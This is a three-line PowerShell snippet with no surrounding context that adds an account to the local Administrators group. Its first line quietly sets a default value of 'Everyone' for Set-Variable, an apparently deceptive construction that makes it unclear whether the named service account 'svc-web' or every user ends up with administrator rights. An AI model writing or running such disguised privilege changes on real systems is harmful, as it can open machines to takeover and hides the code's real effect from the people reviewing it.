$PSDefaultParameterValues['Set-Variable:Value'] = 'Everyone'
Set-Variable who 'svc-web'
Add-LocalGroupMember -Group Administrators -Member $who
